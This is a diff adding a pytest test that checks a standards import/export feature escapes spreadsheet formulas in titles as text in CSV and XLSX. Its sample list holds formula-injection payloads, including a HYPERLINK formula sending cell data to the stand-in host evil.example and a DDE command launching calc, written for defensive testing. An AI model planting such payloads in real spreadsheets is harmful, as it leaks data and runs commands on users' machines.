@@ -404,3 +404,41 @@ def test_rows_of_one_unit_must_agree_on_its_english_title(chile_levels):
     with pytest.raises(ImportFailed) as failure:
         standards_import(io.BytesIO(as_csv(rows)), "s.csv")
     assert [(e.row, e.column) for e in failure.value.errors] == [(3, "unit_title_en")]
+
+
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("title", FORMULA_TITLES)
+def test_a_formula_in_a_title_is_exported_as_text_and_imported_back(
+    chile_levels, title
+):
+    """A title a spreadsheet would run is written with a leading apostrophe,
+    as a text cell in XLSX; importing the export gives the title back."""
+    row = [*GOOD[3][:4], title, *GOOD[3][5:]]
+    standards_import(io.BytesIO(as_csv([row])), "s.csv")
+    assert OccupationalStandard.objects.get().title == title.strip()
+
+    exported_csv = standards_export(OccupationalStandard.objects.all(), "csv")
+    import csv
+
+    [header, cells] = list(csv.reader(io.StringIO(exported_csv.decode("utf-8-sig"))))
+    assert cells[header.index("standard_title")] == "'" + title.strip()
+
+    exported = standards_export(OccupationalStandard.objects.all(), "xlsx")
+    sheet = load_workbook(io.BytesIO(exported)).active
+    cell = sheet.cell(row=2, column=COLUMNS.index("standard_title") + 1)
+    assert cell.data_type == "s"
+    assert cell.value == "'" + title.strip()
+    for cells in sheet.iter_rows():
+        assert all(c.data_type != "f" for c in cells)
+
+    OccupationalStandard.objects.all().delete()
+    standards_import(io.BytesIO(exported), "again.xlsx")
+    assert OccupationalStandard.objects.get().title == title.strip()
